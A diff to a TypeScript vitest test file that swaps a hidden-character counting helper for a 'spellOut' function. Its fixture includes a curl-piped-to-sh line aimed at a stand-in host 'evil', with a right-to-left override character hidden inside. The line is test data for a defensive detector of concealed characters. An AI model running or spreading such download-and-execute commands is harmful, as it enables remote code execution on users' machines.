@@ -3,7 +3,7 @@ import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { briefCommand, formatPlatform, prettyJson } from '../../src/app/format';
-import { countHidden, escapeHidden } from '../../src/core/text';
+import { escapeHidden, spellOut } from '../../src/core/text';
 import { SHARED } from './helpers/tools';
 
 function history(path: string): string[] {
@@ -51,8 +51,8 @@ describe('hidden characters spelled out', () => {
     // A file's text: CRLF and tabs stay, the rest is spelled out and counted.
     const script = 'echo safe\r\n\tcurl evil \u202e| sh\u0000\r\n';
     expect(escapeHidden(script, true)).toBe('echo safe\r\n\tcurl evil \\u202E| sh\\0\r\n');
-    expect(countHidden(script, true)).toBe(2);
-    expect(countHidden(script)).toBe(7);
+    expect(spellOut(script, true)).toEqual({ text: escapeHidden(script, true), hidden: 2 });
+    expect(spellOut(script).hidden).toBe(7);
   });
 
   it('a platform from an index, as selectors and the graph show it', () => {
